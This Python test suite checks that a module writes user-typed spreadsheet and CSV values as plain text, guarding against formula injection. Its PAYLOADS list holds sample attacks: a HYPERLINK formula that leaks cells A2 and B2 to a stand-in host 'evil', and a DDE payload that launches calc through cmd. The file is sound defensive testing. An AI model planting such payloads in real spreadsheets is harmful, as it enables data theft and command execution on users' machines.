"""The rule every spreadsheet and CSV writer follows (workflows/core/spreadsheet_text.py): a value a
person typed is text, never a formula — in a workbook reopened with openpyxl (and in its XML),
and in a CSV file reopened with the csv module — while numbers and dates stay what they are."""
from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import date, datetime

from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from workflows.core.spreadsheet_text import (append_text_row, csv_bytes, csv_text,
                                        text_cell)

# The finding's payloads (issue 15): a link that leaks columns A and B, DDE, and OWASP's triggers.
PAYLOADS = ('=HYPERLINK("http://evil/?"&A2&B2,"點此查看")', "=cmd|' /C calc'!A0", "+1+1", "-2+3",
            "@SUM(A1)", "\t=1", "\r=1")
# Not formulas, but openpyxl turns '#N/A' into an error value; and text that merely looks odd.
OTHER_TEXT = ("#N/A", "-王小明", "-3", "0970301", "'quoted", 'a,"b",c', "", "一般文字")


def triggers(value: str) -> bool:
    """OWASP's list, spelled out here rather than imported, so the test checks the module."""
    return value[:1] in ("=", "+", "-", "@", "\t", "\r")


def xml_read(value: str) -> str:
    """What any XML reader gives back for text written raw: a CR becomes LF (XML 1.0 §2.11)."""
    return value.replace("\r\n", "\n").replace("\r", "\n")


def reopened(book: Workbook):
    out = io.BytesIO()
    book.save(out)
    return load_workbook(io.BytesIO(out.getvalue())), out.getvalue()


def test_openpyxl_alone_would_store_these_as_formulas_and_errors():
    """Why the rule exists: a plain assignment makes the finding's title a live formula."""
    sheet = Workbook().active
    sheet["A1"] = PAYLOADS[0]
    sheet["A2"] = "#N/A"
    assert (sheet["A1"].data_type, sheet["A2"].data_type) == ("f", "e")


def test_text_cells_are_strings_on_reopening_and_no_formula_is_in_the_file():
    book = Workbook()
    sheet = book.active
    append_text_row(sheet, ["標題", "數量", "日期"])
    for n, value in enumerate(PAYLOADS + OTHER_TEXT):
        append_text_row(sheet, [value, -n, date(2026, 1, 1 + n)])
    back, raw = reopened(book)
    rows = list(back.active.iter_rows(min_row=2))
    assert len(rows) == len(PAYLOADS + OTHER_TEXT)
    for n, (value, row) in enumerate(zip(PAYLOADS + OTHER_TEXT, rows)):
        text, number, day = row
        if value:
            assert (text.data_type, text.value) == ("s", xml_read(value))
        else:
            assert text.value is None  # an empty cell, as before
        assert (number.data_type, number.value) == ("n", -n)  # numbers stay numbers ...
        assert day.is_date and day.value == datetime(2026, 1, 1 + n)  # ... and dates dates
        assert text.quotePrefix == triggers(value)  # Excel keeps an edited trigger cell text
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and not re.search(r't="(e|str)"', sheet_xml)


def test_text_cell_keeps_a_number_a_number():
    sheet = Workbook().active
    assert text_cell(sheet["A1"], -3).data_type == "n"
    assert text_cell(sheet["A2"], "-3").data_type == "s"


def test_csv_cells_starting_with_a_trigger_get_one_quote():
    rows = [["欄位", "數量"], *[[value, -n] for n, value in enumerate(PAYLOADS + OTHER_TEXT)]]
    data = csv_bytes(rows)
    assert data.startswith(b"\xef\xbb\xbf")
    back = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert back[0] == ["欄位", "數量"]
    for n, (value, (cell, number)) in enumerate(zip(PAYLOADS + OTHER_TEXT, back[1:])):
        if triggers(value):  # the payloads, and '-王小明' and '-3' too: still readable text
            assert cell == "'" + value  # OWASP: Excel and LibreOffice show it as text
        else:
            assert cell == value  # other text is written as it is
        assert number == str(-n)  # a number the project writes is a number, not escaped


def test_only_text_gets_the_escape():
    assert csv_text("'=1") == "'=1"  # already shown as text by Excel
    assert csv_text(-3) == -3 and csv_text(None) is None


@given(st.text())
def test_any_text_is_written_as_text_in_csv(value):
    data = csv_bytes([[value]])
    back = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    cell = back[0][0] if back else ""  # csv writes an empty row for [""]
    assert cell == ("'" + value if value.startswith(("=", "+", "-", "@", "\t", "\r")) else value)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
